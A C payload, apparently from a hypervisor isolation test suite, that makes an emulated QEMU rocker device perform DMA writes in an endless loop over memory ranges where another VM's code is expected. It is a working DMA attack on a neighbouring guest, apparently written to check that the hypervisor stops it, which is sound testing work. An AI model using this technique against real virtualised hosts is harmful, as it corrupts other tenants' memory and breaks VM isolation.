/* SPDX-License-Identifier: Apache-2.0 */
/* The payload whose device (QEMU's rocker) writes without end where it may not. */
#include "function.h"

#define DMA_ADDRESS (FUNCTION_BAR + 0x28)
#define DMA_BYTES   (FUNCTION_BAR + 0x30)
#define DMA_CONTROL (FUNCTION_BAR + 0x34)
#define DMA_FILL    2u		 /* with bytes of 96 */
#define OTHER	    1u		 /* the VM that must be there to be hit, by its number */
#define FIRST	    0x1000000ull /* above our own memory */
#define END	    0x40000000ull
#define STEP	    0x200000ull /* VMs begin at such addresses, and their code lies at one */

static volatile uint64_t own;
static struct hv_vm_status status;

static void fill(uint64_t address)
{
	*reg64(DMA_ADDRESS) = address;
	*reg32(DMA_BYTES) = 8;
	*reg32(DMA_CONTROL) = DMA_FILL;
}

void payload_main(void)
{
	for (unsigned i = 0; i < SPINS && !status.ready; i++)
		(void)hcall(HV_CALL_VM_STATUS, OTHER, (uint64_t)&status, 0, 0);
	pci_write(0, FUNCTION_DEVFN, PCI_COMMAND, PCI_MEMORY | PCI_MASTER);
	fill((uint64_t)&own);
	say_number("own memory", own);
	(void)hcall(HV_CALL_HEARTBEAT, 1, 0, 0, 0);
	for (uint64_t at = FIRST;; at = at + STEP < END ? at + STEP : FIRST)
		fill(at);
}
